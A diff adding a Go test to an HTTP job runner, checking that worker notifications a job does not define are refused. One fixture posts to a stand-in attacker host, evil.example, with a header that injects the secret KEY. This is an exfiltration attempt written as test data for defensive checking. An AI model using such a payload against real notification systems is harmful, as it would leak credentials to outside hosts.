@@ -1,6 +1,7 @@
 package httpjob
 
 import (
+	"context"
 	"errors"
 	"net/http"
 	"net/http/httptest"
@@ -60,5 +61,44 @@ func TestAnswersAreMaskedHoweverTheyAreWritten(t *testing.T) {
 		if got := string(masked(httpspec.NewMask(c.secret), []byte(c.answer))); got != c.want || strings.Contains(got, c.secret) {
 			t.Errorf("%s became %s, want %s", c.answer, got, c.want)
 		}
+	}
+}
+
+// rows is a store that has one job.
+type rows struct{ Store }
+
+func (rows) Definition(_ context.Context, _ jobs.Tenant, key jobs.Key) (*jobs.Definition, error) {
+	if key != "work" {
+		return nil, jobs.Refuse(jobs.NotFound, "there is no job %s", key)
+	}
+	return &jobs.Definition{Key: key, Policy: jobs.Policy{HTTP: []byte(`{"request":[{"url":"http://127.0.0.1:2/x"}],"notification":[{"method":"POST","url":"http://127.0.0.1:2/told","stateEquals":"200"}]}`)}}, nil
+}
+
+// A worker that has a run may tell what it likes of it, but only to those whom the job names: not with the secrets of
+// whoever delivers, and not elsewhere.
+func TestNotificationsThatNoJobHas(t *testing.T) {
+	r, err := New(rows{}, Config{Guard: Guard{Allow: prefixes("127.0.0.1/32")}, Breaker: Breaker{Off: true}, Secrets: httpspec.Secrets{"KEY": {Value: "s3cret", Hosts: []string{"127.0.0.1", "evil.example"}}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for what, call := range map[string]string{
+		"another host":       `{"method":"POST","url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}`,
+		"another header":     `{"method":"POST","url":"http://127.0.0.1:2/told","headers":{"X":"${secret:KEY}"}}`,
+		"another path":       `{"method":"POST","url":"http://127.0.0.1:2/else"}`,
+		"nothing":            `{}`,
+		"no call":            `"x"`,
+		"of a job's request": `{"url":"http://127.0.0.1:2/x"}`,
+	} {
+		for _, of := range []jobs.Key{"work", "nobody", jobs.NotifyKey(App)} {
+			err := r.deliver(t.Context(), notification{Job: of, Body: note{State: "200", Call: []byte(call), Notice: []byte(`{}`)}})
+			if err == nil || !jobs.IsFinal(err) || jobs.FailCode(err) != "" {
+				t.Errorf("%s, of %s: %v", what, of, err)
+			}
+		}
+	}
+	// What the job says is called: nobody listens there.
+	err = r.deliver(t.Context(), notification{Job: "work", Body: note{State: "200", Call: []byte(`{"method":"POST","url":"http://127.0.0.1:2/told"}`), Notice: []byte(`{}`)}})
+	if jobs.FailCode(err) != codeUndelivered {
+		t.Errorf("what the job says: %v", err)
 	}
 }
